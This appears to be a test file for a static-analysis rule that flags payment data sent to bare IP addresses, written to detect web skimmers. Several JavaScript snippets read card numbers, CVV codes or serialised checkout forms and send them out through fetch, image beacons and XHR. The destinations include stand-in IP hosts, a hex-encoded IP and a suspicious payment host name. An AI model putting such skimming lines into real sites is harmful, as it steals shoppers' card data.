// Tests for data-to-ip-address: card, form or key data sent to a bare IP address. Findings
// are reported on the sink. Sections are separate scripts.

var n = document.querySelector('#cc_number').value;
// ruleid: data-to-ip-address
fetch('http://198.51.100.23/gate.php', { method: 'POST', mode: 'no-cors', body: btoa(n) });

// ---
// Image beacon to an IP with a port, serialised form.
var f = jQuery('#co-payment-form').serialize();
// ruleid: data-to-ip-address
new Image().src = 'https://203.0.113.77:8443/i.gif?' + f;

// ---
// XHR to an IPv4 address written in hexadecimal (browsers accept it).
var x = new XMLHttpRequest();
x.open('POST', 'http://0xc6336417/c');
// ruleid: data-to-ip-address
x.send(JSON.stringify({ cvv: document.getElementById('cvv').value }));

// ---
// Card data to a host name (other rules cover it), not an IP.
var pan = document.getElementById('card-number').value;
// ok: data-to-ip-address
fetch('https://secure-paygate.xyz/gate', { method: 'POST', body: pan });

// ---
// A health check to an IP without any card data.
// ok: data-to-ip-address
fetch('http://203.0.113.10/health', { mode: 'no-cors' });

// ---
// Card data to the site itself.
var num = document.getElementById('cardnumber').value;
// ok: data-to-ip-address
fetch('/checkout/payment', { method: 'POST', body: JSON.stringify({ num: num }) });
